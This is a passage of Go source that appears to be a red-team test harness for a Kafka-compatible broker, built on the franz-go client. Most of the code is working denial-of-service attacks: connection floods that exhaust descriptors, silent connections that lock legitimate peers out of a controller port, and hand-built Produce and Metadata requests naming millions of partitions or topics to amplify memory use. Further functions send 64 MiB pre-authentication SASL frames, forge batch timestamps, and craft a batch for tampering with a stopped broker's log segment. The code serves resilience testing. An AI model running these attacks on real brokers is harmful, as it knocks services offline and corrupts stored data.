	var held []net.Conn
	refused := 0
	for i := 0; i < cnt; i++ {
		c, err := net.DialTimeout("tcp", *addr, time.Second)
		if err != nil {
			refused++
			continue
		}
		held = append(held, c)
	}
	time.Sleep(time.Second)
	// How many of the held connections does the broker still keep open?
	alive := 0
	for _, c := range held {
		_ = c.SetReadDeadline(time.Now().Add(time.Millisecond))
		var b [1]byte
		if _, err := c.Read(b[:]); err != nil && errors.Is(err, os.ErrDeadlineExceeded) {
			alive++
		}
	}
	fmt.Printf("opened %d connections (%d dial errors), %d still open after 1 s\n", len(held), refused, alive)
	// The existing client keeps producing: every roll needs 1 descriptor (its .log).
	val := make([]byte, 1000)
	var perr error
	okc := 0
	for i := 0; i < 200; i++ {
		if perr = cl.ProduceSync(ctx, &kgo.Record{Topic: topic, Value: val}).FirstErr(); perr != nil {
			break
		}
		okc++
	}
	fmt.Printf("existing client while flooded: %d/200 produced (~12 rolls), last error %v\n", okc, perr)
	for _, c := range held {
		c.Close()
	}
	time.Sleep(2 * time.Second)
	for i := 0; i < 50; i++ {
		if perr = cl.ProduceSync(ctx, &kgo.Record{Topic: topic, Value: val}).FirstErr(); perr != nil {
			break
		}
	}
	fmt.Println("existing client after release:", perr, "; end offset", endOffset(adm, topic))
	fmt.Println(healthy("flood"))
	return nil
}

// ctrlslow: hold 140 silent connections on the controller port -ctrl (re-opening the ones it
// closes) for -n seconds (default 25); meanwhile a peer with valid credentials (-user/-pass)
// opens a connection every 2 s: is it still admitted?
func ctrlslow() error {
	secs := *n
	if secs == 0 {
		secs = 25
	}
	end := time.Now().Add(time.Duration(secs) * time.Second)
	var opened, closedByPeer atomic.Int64
	var wg sync.WaitGroup
	for i := 0; i < 140; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for time.Now().Before(end) {
				c, err := net.DialTimeout("tcp", *ctrlAddr, time.Second)
				if err != nil {
					time.Sleep(100 * time.Millisecond)
					continue
				}
				opened.Add(1)
				_ = c.SetReadDeadline(end)
				var b [1]byte
				_, err = c.Read(b[:])
				if !errors.Is(err, os.ErrDeadlineExceeded) {
					closedByPeer.Add(1)
				}
				c.Close()
			}
		}()
	}
	admitted, refused := 0, 0
	var lastErr string
	time.Sleep(time.Second)
	for time.Now().Add(2 * time.Second).Before(end) {
		start := time.Now()
		c, err := net.DialTimeout("tcp", *ctrlAddr, time.Second)
		if err == nil {
			_ = c.SetDeadline(time.Now().Add(12 * time.Second))
			_, _ = c.Write(wcpHello(*user, *pass))
			var st [3]byte
			if _, err = io.ReadFull(c, st[:]); err == nil && st[0] != 0 {
				err = fmt.Errorf("status %d", st[0])
			}
			c.Close()
		}
		if err == nil {
			admitted++
		} else {
			refused++
			lastErr = fmt.Sprintf("%v after %v", err, time.Since(start).Round(time.Millisecond))
		}
		time.Sleep(2 * time.Second)
	}
	wg.Wait()
	fmt.Printf("silent connections opened %d (closed by the port %d); legitimate peer connections: %d admitted, %d refused (last: %s)\n",
		opened.Load(), closedByPeer.Load(), admitted, refused, lastErr)
	return nil
}

// plant writes to stdout a zstd batch of -size MiB of zeros (1 MiB records) at base offset -n,
// leader epoch 0, timestamps now .. now+size-1: the bytes a follower or an older broker could
// have stored, to append to a stopped broker's segment.
func plant() error {
	mib := *size
	if mib == 0 {
		mib = 256
	}
	now := time.Now().UnixMilli()
	val := make([]byte, 1<<20)
	var recs bytes.Buffer
	for i := 0; i < mib; i++ {
		recs.Write(record(int32(i), int64(i), val))
	}
	b := batch(4, int32(mib), int32(mib-1), now, now+int64(mib-1), zstdOf(recs.Bytes()))
	binary.BigEndian.PutUint64(b[0:], uint64(*n))
	binary.BigEndian.PutUint32(b[12:], 0)
	_, err := os.Stdout.Write(b)
	return err
}

// amplify: one Produce request (v3, built by hand) naming one topic with -n partitions
// (default 4 Mi) that carry no records: 8 wire bytes per partition, each decoded into a
// request and a response structure. Sent on 4 connections at once.
func amplify() error {
	cnt := *n
	if cnt == 0 {
		cnt = 4 << 20
	}
	topic := "amplify"
	var body []byte
	if *topicFlag == "metadata-distinct" {
		// Metadata v4 naming cnt distinct unknown 4-character topics (6 wire bytes each).
		body = binary.BigEndian.AppendUint16(body, 3)
		body = binary.BigEndian.AppendUint16(body, 4)
		body = binary.BigEndian.AppendUint32(body, 1)
		body = binary.BigEndian.AppendUint16(body, 7)
		body = append(body, "redteam"...)
		body = binary.BigEndian.AppendUint32(body, uint32(cnt))
		for i := 0; i < cnt; i++ {
			body = append(body, 0, 4, byte('a'+i%26), byte('a'+i/26%26), byte('a'+i/676%26), byte('a'+i/17576%26))
		}
		body = append(body, 0)
		return sendAmplified(body, cnt, "Metadata v4 naming distinct unknown topics")
	}
	if *topicFlag == "metadata" {
		// Metadata v4 naming the one-character topic "a" cnt times (3 wire bytes each).
		body = binary.BigEndian.AppendUint16(body, 3)
		body = binary.BigEndian.AppendUint16(body, 4)
		body = binary.BigEndian.AppendUint32(body, 1)
		body = binary.BigEndian.AppendUint16(body, 7)
		body = append(body, "redteam"...)
		body = binary.BigEndian.AppendUint32(body, uint32(cnt))
		for i := 0; i < cnt; i++ {
			body = append(body, 0, 1, 'a')
		}
		body = append(body, 0) // allow auto topic creation: false
		return sendAmplified(body, cnt, "Metadata v4 naming topic \"a\"")
	}
	body = binary.BigEndian.AppendUint16(body, 0) // api key: Produce
	body = binary.BigEndian.AppendUint16(body, 3) // version
	body = binary.BigEndian.AppendUint32(body, 1) // correlation id
	body = binary.BigEndian.AppendUint16(body, 7)
	body = append(body, "redteam"...)
	body = binary.BigEndian.AppendUint16(body, 0xffff) // transactional id: null
	body = binary.BigEndian.AppendUint16(body, 1)      // acks
	body = binary.BigEndian.AppendUint32(body, 5000)   // timeout
	body = binary.BigEndian.AppendUint32(body, 1)      // topics
	body = binary.BigEndian.AppendUint16(body, uint16(len(topic)))
	body = append(body, topic...)
	body = binary.BigEndian.AppendUint32(body, uint32(cnt))
	for i := 0; i < cnt; i++ {
		body = binary.BigEndian.AppendUint32(body, uint32(i))
		body = binary.BigEndian.AppendUint32(body, 0xffffffff) // records: null
	}
	return sendAmplified(body, cnt, "Produce v3 with one topic, partitions")
}

// sendAmplified sends the request body on 4 connections at once (1 with -conns 1).
func sendAmplified(body []byte, cnt int, what string) error {
	frame := binary.BigEndian.AppendUint32(nil, uint32(len(body)))
	frame = append(frame, body...)
	fmt.Printf("%s x %d: %d MiB frame, %d connections\n", what, cnt, len(frame)>>20, *conns)
	w := rssWatch()
	start := time.Now()
	var wg sync.WaitGroup
	for i := 0; i < *conns; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			c, err := net.DialTimeout("tcp", *addr, 5*time.Second)
			if err != nil {
				fmt.Println("dial:", err)
				return
			}
			defer c.Close()
			_ = c.SetDeadline(time.Now().Add(60 * time.Second))
			if _, err := c.Write(frame); err != nil {
				fmt.Println("write:", err)
				return
			}
			var hdr [4]byte
			if _, err := io.ReadFull(c, hdr[:]); err != nil {
				fmt.Println("reply:", err)
				return
			}
			n, _ := io.Copy(io.Discard, io.LimitReader(c, int64(binary.BigEndian.Uint32(hdr[:]))))
			fmt.Printf("reply of %d MiB after %v\n", n>>20, time.Since(start).Round(time.Millisecond))
		}()
	}
	wg.Wait()
	fmt.Println(w())
	fmt.Println(healthy("amplify"))
	return nil
}

// tslie: timestamp lies in the batch header: MaxTimestamp in year 9999 over a record stamped
// now, and a year-9999 FirstTimestamp with a negative delta bringing the record back to now.
// Then reads the stored batch header back.
func tslie() error {
	cl, adm := client()
	defer cl.Close()
	topic := "tslie"
	if err := createTopic(adm, topic, 1); err != nil {
		return err
	}
	c, err := dial()
	if err != nil {
		return err
	}
	defer c.c.Close()
	now := time.Now().UnixMilli()
	far := time.Date(9999, 1, 1, 0, 0, 0, 0, time.UTC).UnixMilli()
	code, msg, off, err := produceRaw(c, topic, 0, batch(0, 1, 0, now, far, record(0, 0, []byte("maxts-lie"))))
	fmt.Println("header MaxTimestamp 9999, record now:", errName(code), msg, off, err)
	code, msg, off, err = produceRaw(c, topic, 0, batch(0, 1, 0, far, far, record(0, now-far, []byte("first-lie"))))
	fmt.Println("FirstTimestamp 9999, delta back to now:", errName(code), msg, off, err)
	code, msg, off, err = produceRaw(c, topic, 0, batch(4, 1, 0, now, far, zstdOf(record(0, 0, []byte("maxts-lie-zstd")))))
	fmt.Println("zstd, header MaxTimestamp 9999, record now:", errName(code), msg, off, err)
	// Read the stored headers back.
	f := kmsg.NewPtrFetchRequest()
	f.SetVersion(11)
	f.ReplicaID = -1
	f.MaxWaitMillis = 100
	f.MaxBytes = 1 << 20
	ft := kmsg.NewFetchRequestTopic()
	ft.Topic = topic
	fp := kmsg.NewFetchRequestTopicPartition()
	fp.PartitionMaxBytes = 1 << 20
	fp.CurrentLeaderEpoch = -1
	fp.LogStartOffset = -1
	ft.Partitions = append(ft.Partitions, fp)
	f.Topics = append(f.Topics, ft)
	fr := kmsg.NewPtrFetchResponse()
	if err := c.roundTrip(f, fr); err != nil {
		return err
	}
	b := fr.Topics[0].Partitions[0].RecordBatches
	for len(b) >= 61 {
		var rb kmsg.RecordBatch
		l := int(binary.BigEndian.Uint32(b[8:])) + 12
		if l > len(b) || rb.ReadFrom(b[:l]) != nil {
			break
		}
		fmt.Printf("stored batch at %d: FirstTimestamp %d MaxTimestamp %d (now %d)\n", rb.FirstOffset, rb.FirstTimestamp, rb.MaxTimestamp, now)
		b = b[l:]
	}
	return nil
}

// preauth: on a SASL listener, before authenticating, 8 connections each announce a 64 MiB
// SaslAuthenticate frame and send its bytes: how much does the broker read and hold?
func preauth() error {
	w := rssWatch()
	var wg sync.WaitGroup
	var mu sync.Mutex
	res := map[string]int{}
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			c, err := saslConn("PLAIN")
			if err != nil {
				mu.Lock()
				res["handshake: "+err.Error()]++
				mu.Unlock()
				return
			}
			defer c.c.Close()
			var hdr []byte
			hdr = binary.BigEndian.AppendUint32(hdr, 64<<20)
			hdr = binary.BigEndian.AppendUint16(hdr, 36)
			hdr = binary.BigEndian.AppendUint16(hdr, 1)
			_ = c.c.SetWriteDeadline(time.Now().Add(10 * time.Second))
			_, err = c.c.Write(hdr)
			chunk := make([]byte, 1<<20)
			sent := 0
			for err == nil && sent < 64 {
				_, err = c.c.Write(chunk)
				if err == nil {
					sent++
				}
			}
			mu.Lock()
			res[fmt.Sprintf("wrote %d MiB, then %v", sent, err)]++
			mu.Unlock()
		}()
	}
	wg.Wait()
	fmt.Println(res)
	fmt.Println(w())
	fmt.Println(healthy("preauth"))
	return nil
}
